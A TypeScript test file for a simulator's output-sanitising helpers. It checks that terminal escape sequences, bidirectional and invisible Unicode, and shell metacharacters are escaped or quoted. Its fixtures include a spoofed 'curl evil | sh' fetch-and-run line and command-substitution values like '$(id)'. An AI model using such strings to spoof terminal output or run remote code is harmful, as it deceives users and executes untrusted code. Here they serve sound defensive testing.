import { assert, assertEquals, assertMatch } from "@std/assert";
import { shellQuoted, unitsFor, visible, visibleJson } from "../../simulator/text.ts";
import { textReport } from "../../simulator/report.ts";
import { main as vectors } from "../../simulator/cli/vectors.ts";
import { Capture, simulateHere } from "../support/simulate.ts";
import { withTree } from "../support/temp_tree.ts";

// What came from outside is printed so that all of it is seen, in its line (decisions D226).

/** What a terminal obeys instead of showing it. */
const HOSTILE = [
  "\u001b]0;owned\u0007\u001b[2J",
  "x\nok\nreplay: curl evil | sh",
  "a\rb\tc\u0008",
  "\u007f\u0080\u009b31m\u00ad",
  "\u202etxt.exe\u2066\u200f\u200b\ufeff",
  "line\u2028paragraph\u2029\u0085",
  "half \ud800 and half \udc00 of 😀",
];
const OBEYED =
  // deno-lint-ignore no-control-regex -- they are what is looked for
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]/;

Deno.test("visible: nothing is left that a terminal obeys, and what can be seen stays", () => {
  assertEquals(visible("\u001b[2J a\nb \u202e \u009b"), "\\x1b[2J a\\x0ab \\u202e \\u009b");
  for (const text of HOSTILE) {
    assertEquals(OBEYED.test(visible(text)), false, visible(text));
    assertEquals(visible(text).includes("\n"), false);
    assertEquals(visible(visible(text)), visible(text));
  }
  for (const text of ["", 'naïve 😀 日本語 Ω\\ it\'s "so"', "guest 1: x"]) {
    assertEquals(visible(text), text);
  }
});

Deno.test("visibleJson: the same values, and nothing that a terminal obeys", () => {
  const value = { texts: HOSTILE, [HOSTILE[0]!]: [1, null, true] };
  const json = visibleJson(value);
  assertEquals(OBEYED.test(json), false);
  assertEquals(JSON.parse(json), JSON.parse(JSON.stringify(value)));
});

/** The word that a POSIX shell of today makes of one quoted word. */
function unquoted(quoted: string): string {
  const [, escaped] = /^\$'((?:[^'\\]|\\.)*)'$/.exec(quoted) ?? [];
  if (escaped !== undefined) {
    return escaped.replaceAll(
      /\\(?:x([\da-f]{2})|u([\da-f]{4})|(.))/g,
      (_, x, u, unit) => unit ?? String.fromCharCode(parseInt(x ?? u, 16)),
    );
  }
  if (!quoted.startsWith("'")) return /^[\w./:@%+=-]+$/.test(quoted) ? quoted : "not one word";
  return quoted.replaceAll(/'([^']*)'|\\'/g, (whole, inner) => whole === "\\'" ? "'" : inner);
}

Deno.test("shellQuoted: a shell that is given it again has the same word", () => {
  const plain = ["copy.md", "-x", "a/b_c:1@2%3+4=5", "a=b"];
  assertEquals(plain.map(shellQuoted), plain);
  const odd = [
    "",
    "it's",
    "a b",
    "~/x",
    "=ls",
    "$(id)",
    "`id`",
    "\\n",
    "!x",
    "é",
    "$'x'",
    "a;b",
    "*",
  ];
  for (const word of [...odd, ...HOSTILE.slice(0, -1), "\n'\\x41"]) {
    const line = shellQuoted(word);
    assertEquals(OBEYED.test(line) || line.includes("\n"), false);
    assertEquals(unquoted(line), word);
  }
  assertEquals(shellQuoted("it's"), `'it'\\''s'`);
  assertEquals(shellQuoted("a\n'b'"), `$'a\\x0a\\'b\\''`);
});

Deno.test("textReport: findings, labels and commands are one line each, whatever is in them", () => {
  const hostile = HOSTILE.join("");
  const report = textReport({
    ok: false,
    isStopped: false,
    findings: [hostile],
    counts: { columns: [], rows: [] },
    digests: [{ key: "read", label: hostile, byteCount: 1, sha256: "0" }],
    savedTo: hostile,
    transactions: 0,
    virtualMilliseconds: 0,
    violationCount: 0,
    leakCount: 0,
    traceDigest: "0",
    progress: { done: 0, total: 0, unit: "packets" },
  }, {
    scenario: "x",
    seed: 0n,
    schedule: "fifo",
    codec: "vmbus",
    options: {},
    wallMilliseconds: 0,
    replay: hostile,
    resume: hostile,
  });
  assertEquals(OBEYED.test(report), false);
  assertEquals(report.match(/^replay: /gm)?.length, 1);
  assertEquals(report.match(/^ok$/m), null);
});

Deno.test("simulate, vectors: names that a terminal would obey are shown, in complaints and in reports", async () => {
  const name = "a\u001b[2J\nok";
  await withTree({ [name]: "hello" }, async (root) => {
    const path = `${root}/${name}`;
    const runs = [
      await simulateHere("--file", path),
      await simulateHere("--file", `${path}.gone`),
      await simulateHere("--file", path, "--json", "--out", `${path}.copy`),
      await simulateHere("--resume", path),
      await simulateHere(`--${name}`),
      await simulateHere(name),
      await simulateHere("--seed", name),
    ];
    assertEquals(runs.map(({ code }) => code), [0, 2, 0, 2, 2, 2, 2]);
    for (const { stdout, stderr } of runs) {
      assertEquals(OBEYED.test(stdout + stderr), false, stdout + stderr);
      assert(stderr === "" || /^[^\n]+\n$/.test(stderr), stderr);
    }
    assertMatch(runs[0]!.stdout, /\nreplay: deno .* --file \$'\S+a\\x1b\[2J\\x0aok' /);
    using _ = new Capture(Deno.stdout);
    using stderr = new Capture(Deno.stderr);
    assertEquals(await vectors([path]), 2);
    assertEquals(OBEYED.test(stderr.text), false);
  });
});

Deno.test("unitsFor: one of them has no s", () => {
  const of = (count: number) =>
    ["worlds", "further places", "bytes checked"].map((units) => unitsFor(count, units));
  assertEquals(of(1), ["world", "further place", "byte checked"]);
  assertEquals([of(0), of(2)], [["worlds", "further places", "bytes checked"], of(0)]);
});
